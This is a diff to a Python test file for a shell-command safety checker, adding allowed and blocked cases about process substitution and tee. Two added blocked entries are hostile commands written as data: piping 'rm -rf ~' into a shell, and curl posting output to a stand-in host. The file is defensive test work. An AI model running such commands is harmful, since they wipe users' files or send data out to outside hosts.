@@ -57,6 +57,8 @@ ALLOWED = [
     ("posix", "diff -u README.md src/app.py > data/diff.patch"),
     ("posix", "pytest -q > build/test.log 2>&1"),  # ignored
     ("posix", "make > build/new/out.txt"),  # a new file in a new folder
+    # a process substitution is a pipe to commands checked on their own, not a file
+    ("posix", "make 2>&1 | tee >(grep -i error) build.log"),
     ("posix", "sort data/names.txt > data/sorted.txt"),
     ("posix", "pytest > out.txt; cat out.txt"),  # read after it is written
     ("posix", "echo '' > empty.out"),  # empty: nothing to lose
@@ -108,6 +110,9 @@ BLOCKED = [
     ("posix", "true > new.txt"),
     ("posix", "cat /dev/null > coverage.lcov"),
     ("posix", "echo x > src/app.py"),  # tracked with content
+    ("posix", "make | tee src/app.py >(grep x)"),  # beside a pipe, the tracked file still counts
+    ("posix", "echo 'rm -rf ~' | tee >(sh)"),  # and what the substituted commands do
+    ("posix", "make | tee >(curl -d @- http://x.example)"),
     ("posix", "python gen.py > README.md"),
     ("posix", "echo x > notes.txt"),  # untracked, not ignored: maybe the user's work
     ("posix", "echo 'DEBUG=1' > .env"),  # ignored, but it holds the user's keys, not output
@@ -265,3 +270,9 @@ def test_a_folder_variable_the_line_leaves_alone_names_its_folder(repo: Path, co
 @pytest.mark.parametrize("command", WORKING_DIRECTORY_BLOCKED + USER_FOLDERS_BLOCKED)
 def test_a_folder_variable_the_line_may_change_is_unknown(repo: Path, command: str) -> None:
     assert not decide_in(command, repo, "posix").allowed, command
+
+
+def test_a_process_substitution_written_to_is_no_file() -> None:
+    # `tee >(cat 1>&2)` writes into a pipe to `cat`: known without a working directory too.
+    decision = decide_in('test -z "$(git status --porcelain | tee >(cat 1>&2))"', None, "posix")
+    assert decision.allowed, (decision.rule_id, decision.reason)
